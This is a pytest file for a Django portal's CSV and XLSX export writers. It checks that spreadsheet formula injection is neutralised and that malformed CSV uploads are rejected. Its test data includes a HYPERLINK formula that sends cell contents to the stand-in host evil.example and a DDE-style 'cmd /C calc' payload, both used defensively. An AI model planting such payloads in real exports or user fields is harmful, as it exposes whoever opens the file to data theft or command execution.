"""The one export writer: no export carries a live formula, in either format."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from ics_portal import tables
from milestones import services
from milestones.models import Programme

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_that_start_like_a_formula_get_an_apostrophe_and_read_back():
    data = tables.write_csv([["title", "n"], *[[text, -5] for text in HOSTILE]])
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    for text, (cell, number) in zip(HOSTILE, lines[1:], strict=True):
        assert cell == "'" + text
        assert tables.from_cell(cell) == text
        # Numbers are not text typed by anyone: they stay numbers.
        assert number == "-5"


def test_xlsx_cells_are_text_never_formulas():
    data = tables.write_xlsx(
        [["title", "when"], *[[text, dt.date(2026, 1, 1)] for text in HOSTILE]],
        sheet_title="A/very:long*sheet?title[with]bad\\characters",
    )
    sheet = load_workbook(io.BytesIO(data)).active
    assert len(sheet.title) <= 31 and "/" not in sheet.title
    for row, text in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row=row, column=1)
        # XML stores a carriage return as a line feed; what matters is the cell type.
        assert cell.data_type == "s" and cell.value == text.replace("\r", "\n")
        assert sheet.cell(row=row, column=2).is_date


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        (b"title,owner_body\x00,status\n", "binary data"),
        ("title\n".encode("utf-16"), "not UTF-8"),
        (b'title\n"' + b"x" * 200_000 + b'"\n', "cannot be read"),
    ],
)
def test_csv_reader_refuses_what_is_not_csv_text(raw, message):
    with pytest.raises(tables.UnreadableCsv, match=message):
        tables.read_csv(raw)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_milestone_export_is_inert(client_as, persona, fmt):
    programme = Programme.objects.get(body__slug="tht")
    services.milestone_create(
        title=HOSTILE[0],
        description=HOSTILE[1],
        programme=programme,
        owner_body=programme.body,
        due_date=dt.date.today(),
        by=persona("tht.office"),
    )
    response = client_as("tht.office").get(reverse("milestones:export", args=[programme.pk, fmt]))
    assert response.status_code == 200
    if fmt == "csv":
        text = response.content.decode("utf-8-sig")
        assert "'=HYPERLINK" in text and "'@SUM" in text
        rows = list(csv.reader(io.StringIO(text)))
        assert not any(cell.startswith(("=", "@")) for row in rows for cell in row)
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [c for c in cells if c.data_type == "f"]
        values = {c.value for c in cells}
        assert HOSTILE[0] in values and HOSTILE[1] in values


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_map_export_is_inert(client_as, fmt):
    from delegation.models import Function

    function = Function.objects.filter(system__slug="nel").order_by("pk").first()
    Function.objects.filter(pk=function.pk).update(name=HOSTILE[0], statutory_basis=HOSTILE[1])
    response = client_as("tht.board").get(reverse("delegation:map_export", args=["nel", fmt]))
    assert response.status_code == 200
    if fmt == "csv":
        text = response.content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text)))
        assert not any(cell.startswith(("=", "@")) for row in rows for cell in row)
        assert "'=HYPERLINK" in text
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [c for c in cells if c.data_type == "f"]
        assert HOSTILE[0] in {c.value for c in cells}
